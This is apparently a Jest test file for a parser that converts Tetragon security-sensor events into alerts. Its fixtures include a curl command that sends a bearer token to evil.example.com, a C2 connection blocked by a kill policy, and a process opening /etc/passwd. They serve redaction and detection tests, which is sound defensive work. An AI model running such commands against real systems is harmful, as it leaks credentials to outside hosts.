import { describe, expect, test } from '@jest/globals';
import { alertOf, fixture, itemsOf } from './read.ts';

const kprobe = JSON.parse(fixture('tetragon/rw-kprobe-sigkill-policy.json'));
const exec = JSON.parse(fixture('tetragon/rw-host-exec-no-pod-no-node-name.json'));
const change = (body: object, event: object = {}) => ({
  ...kprobe,
  process_kprobe: { ...kprobe.process_kprobe, ...body },
  ...event,
});

describe('a hit of a tracing policy', () => {
  test('names policy, pod, workload, container, process and both ends of the connection', () => {
    expect(alertOf(kprobe)).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{32}$/),
      sensor: 'tetragon',
      rule: 'block-c2',
      severity: 'medium',
      time: '2026-06-01T10:00:00.000000014Z',
      title: 'C2 connect, killed by Tetragon',
      cluster: 'lab',
      node: 'worker-1',
      pod: { namespace: 'team-a', name: 'api-0' },
      workload: { kind: 'StatefulSet', namespace: 'team-a', name: 'api' },
      container: {
        id: '6b742e38ee3a212239e6d48b2954435a407af44b9a354bdf540db22f460ab40e',
        name: 'api',
        image: 'docker.io/library/busybox:latest',
        digest: 'sha256:00',
      },
      process: { name: 'curl', exe: '/usr/bin/curl', commandLine: '/usr/bin/curl', pid: 41233 },
      observables: [
        { type: 'ip', value: '10.0.0.9' },
        { type: 'ip', value: '203.0.113.9' },
        { type: 'path', value: '/usr/bin/curl' },
      ],
      tags: ['observability.network', 'enforced', 'sigkill', 'hook:tcp_connect'],
      mitre: [],
    });
  });

  test('has the severity that the configuration gives its policy, or a tag', () => {
    const severities = { tetragon: { severities: { 'block-c2': 'critical', '*': 'low' } } } as const;
    expect(alertOf(kprobe, { severities }).severity).toBe('critical');
    expect(alertOf(exec, { severities }).severity).toBe('low');
    expect(alertOf(change({ tags: ['severity.high'] })).severity).toBe('high');
    expect(alertOf(change({ tags: ['T1071.001', 'MITRE_TA0011_c2'] })).mitre).toEqual(['T1071.001', 'TA0011']);
  });

  test.each([
    ['KPROBE_ACTION_SIGKILL', ['enforced', 'sigkill']],
    ['KPROBE_ACTION_OVERRIDE', ['enforced', 'override']],
    ['KPROBE_ACTION_NOTIFYENFORCER', ['enforced', 'notifyenforcer']],
    ['KPROBE_ACTION_NOTIFYKILLER', ['enforced', 'notifykiller']],
    ['KPROBE_ACTION_POST', []],
    ['KPROBE_ACTION_NOPOST', []],
    ['KPROBE_ACTION_SIGNAL', []],
    [undefined, []],
  ])('with the action %p has the tags %p, and the hook’s', (action, tags) => {
    expect(alertOf(change({ action, tags: undefined })).tags).toEqual([...tags, 'hook:tcp_connect']);
  });

  test('without a pod keeps the container by which it is found', () => {
    const alert = alertOf(fixture('tetragon/rw-docker-but-no-pod.json'));
    expect(alert).toMatchObject({ rule: 'file-monitoring', node: 'worker-1', container: { id: '0ed7f0a2f9f425f' } });
    expect(alert).not.toHaveProperty('pod');
    expect(alert.observables).toContainEqual({ type: 'path', value: '/etc/passwd' });
  });

  test.each([
    ['rw-process-lsm', 'file-integrity-monitoring', '/usr/bin/zsh called bprm_check_security on /usr/bin/grep'],
    ['rw-process-tracepoint', 'ptrace', '/sbin/init hit raw_syscalls/sys_enter'],
    ['rw-process-uprobe', 'readline', '/usr/bin/bash called readline in /usr/bin/bash'],
    ['rw-process-uprobe-without-path', 'process_uprobe:readline', '/usr/bin/bash called readline'],
    ['rw-aggregated', 'p', '/bin/x called tcp_connect (57 times)'],
  ])('%s is about policy %s: %s', (name, rule, title) => {
    expect(alertOf(fixture(`tetragon/${name}.json`))).toMatchObject({ rule, title, process: { exe: expect.anything() } });
  });

  test('says where a call to connect leads', () => {
    const connect = {
      function_name: 'sys_connect',
      message: '',
      args: [{ sockaddr_arg: { family: 'AF_INET', addr: '203.0.113.9', port: 443 } }],
    };
    expect(alertOf(change(connect)).title).toMatch(/ called sys_connect to 203\.0\.113\.9:443/);
  });

  test.each([null, '', '<NA>', 'host', {}, undefined])('has no pod when the name is %p', (name) => {
    const { pod } = kprobe.process_kprobe.process;
    const process = { ...kprobe.process_kprobe.process, pod: { ...pod, name } };
    expect(alertOf(change({ process }))).not.toHaveProperty('pod');
    expect(alertOf(change({ process: { ...process, pod: {} } }))).not.toHaveProperty('pod');
  });

  test('has the same id when it is sent twice, and another than the next one', () => {
    const { id } = alertOf(kprobe);
    expect(alertOf(Object.fromEntries(Object.entries(kprobe).reverse())).id).toBe(id);
    expect(alertOf(change({}, { time: '2026-06-01T10:00:00.000000015Z' })).id).not.toBe(id);
    expect(alertOf(change({ args: [{ sock_arg: { daddr: '203.0.113.10' } }] })).id).not.toBe(id);
  });
});

describe('processes', () => {
  test('of the host have neither pod nor container', () => {
    const alert = alertOf(exec);
    expect(alert).toMatchObject({
      rule: 'process_exec',
      title: 'Process started: /usr/bin/nano /etc/passwd',
      time: '2026-04-27T15:53:11.199431160Z',
      process: { name: 'nano', commandLine: '/usr/bin/nano /etc/passwd', parent: 'bash', pid: 1524 },
    });
    for (const absent of ['pod', 'container', 'node', 'workload']) expect(alert).not.toHaveProperty(absent);
  });

  test('that ended, with or without a time of their own', () => {
    const { process_exec: body } = exec;
    expect(alertOf({ process_exit: { ...body, signal: 'SIGSEGV' }, node_name: 'n1' })).toMatchObject({
      rule: 'process_exit',
      node: 'n1',
      time: '2026-04-27T15:53:11.199366909Z',
      title: 'Process ended: /usr/bin/nano /etc/passwd (SIGSEGV)',
    });
  });

  test('that ran before Tetragon are replayed without an alert; what they do now is one', () => {
    const old = { ...exec.process_exec.process, flags: 'procFS auid' };
    expect(itemsOf({ ...exec, process_exec: { process: old } })).toMatchObject([{ kind: 'ignored' }]);
    expect(alertOf(change({ process: { ...kprobe.process_kprobe.process, flags: 'procFS auid' } })).rule).toBe('block-c2');
  });

  test('have the image’s reference where the name is the configuration’s id, and no digest but a manifest’s', () => {
    const event = fixture('tetragon/rw-image-config-id.json');
    const container = { id: '84c0b936c919', name: 'app' };
    expect(alertOf(event).container).toEqual({ ...container, image: 'docker.io/shop/cart', digest: 'sha256:11' });
    const bare = event.replace('docker.io/shop/cart@sha256:11', 'docker://sha256:11');
    expect(alertOf(bare).container).toEqual(container);
    const named = event.replace('docker.io/shop/cart@sha256:11', 'sha256:11').replace('"sha256:22"', '"shop/cart:1.2"');
    expect(alertOf(named).container).toEqual({ ...container, image: 'shop/cart:1.2' });
    expect(alertOf(event).observables).toContainEqual({ type: 'ip', value: '203.0.113.9' });
  });

  test('lose the secrets of their command line, and show where they connect', () => {
    const process = {
      ...exec.process_exec.process,
      binary: '/usr/bin/curl',
      arguments: '-H "Authorization: Bearer abc123def456" https://evil.example.com/x',
    };
    const alert = alertOf({ ...exec, process_exec: { process } });
    expect(JSON.stringify(alert)).not.toContain('abc123def456');
    expect(alert.observables).toContainEqual({ type: 'domain', value: 'evil.example.com' });
  });
});

describe('the agent’s own messages', () => {
  test('of dropped events are health', () => {
    expect(itemsOf(fixture('tetragon/rw-rate-limit-info.json'))).toMatchObject([
      { kind: 'health', sensor: 'tetragon', host: 'my-node', text: '10 events dropped by the export rate limit' },
    ]);
  });

  test('of throttled cgroups too', () => {
    const throttle = {
      process_throttle: { type: 'THROTTLE_START', cgroup: 'kubepods' },
      node_name: 'n1',
      time: '2026-06-01T10:00:00Z',
    };
    expect(itemsOf(throttle)).toMatchObject([
      {
        kind: 'health',
        sensor: 'tetragon',
        host: 'n1',
        text: 'events of a cgroup are throttled: some are dropped (THROTTLE_START, kubepods)',
      },
    ]);
    const stop = { ...throttle, process_throttle: { type: 'THROTTLE_STOP', cgroup: 'kubepods' } };
    expect(itemsOf(stop)).toMatchObject([{ text: 'events of a cgroup are no longer throttled (THROTTLE_STOP, kubepods)' }]);
  });
});

describe('forwarders', () => {
  const line = JSON.stringify(kprobe);
  const agent = { kubernetes: { pod_name: 'tetragon-abcde', namespace_name: 'kube-system', host: 'other' } };
  const { id } = alertOf(kprobe);

  test.each([
    ['Fluent Bit, as a list', [{ date: 1780308000.123456, log: line, ...agent }]],
    ['Fluent Bit, as a list, for Tetragon’s own address', [{ date: 1780308000.123456, log: line, ...agent }]],
    ['Fluent Bit with Merge_Log', { date: 1, log: line, ...kprobe, ...agent }],
    ['Fluent Bit with Merge_Log_Key', { date: 1, log: 7, log_processed: kprobe, ...agent }],
    ['a CRI line', { log: `2026-06-01T10:00:00.1Z stdout F ${line}`, ...agent }],
    ['Vector', { message: line, file: '/var/log/x', source_type: 'kubernetes_logs', ...agent }],
    ['Vector with a parsed message', { message: kprobe, ...agent }],
  ])('%s: the event counts, not the forwarder’s own pod', (name, body) => {
    const alert = alertOf(body, name.includes('own address') ? { sensor: 'tetragon' } : {});
    expect(alert).toMatchObject({ id, pod: { namespace: 'team-a', name: 'api-0' }, node: 'worker-1' });
  });

  test('lines, and one broken line among them', () => {
    const items = itemsOf(`${line}\n{"log": "not json"}\n${JSON.stringify(exec)}\n`);
    expect(items.map(({ kind }) => kind)).toEqual(['alert', 'rejected', 'alert']);
  });

  test('the fixture of an agent’s record', () => {
    const alert = alertOf(fixture('tetragon/rw-fluentbit-json-array.json'));
    expect(alert).toMatchObject({ sensor: 'tetragon', rule: 'process_exec', node: 'n1', process: { exe: '/bin/sh', pid: 3 } });
    expect(alert).not.toHaveProperty('pod');
  });

  test('an endlessly nested line is refused, not followed', () => {
    expect(itemsOf({ log: `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}` })).toMatchObject([{ kind: 'rejected' }]);
  });
});

test.each(['process_connect', 'process_listen', 'process_accept', 'process_close'])('%s of an older agent is read', (kind) => {
  const { process } = kprobe.process_kprobe;
  const { process_kprobe: _, ...rest } = kprobe;
  const body = { process, source_ip: '10.0.0.7', destination_ip: '203.0.113.9', source_port: 4711, destination_port: 443 };
  const alert = alertOf({ ...rest, [kind]: body });
  expect(alert).toMatchObject({ rule: kind, severity: 'unknown', pod: { namespace: process.pod.namespace } });
  expect(alert.observables).toContainEqual({ type: 'ip', value: '203.0.113.9' });
});
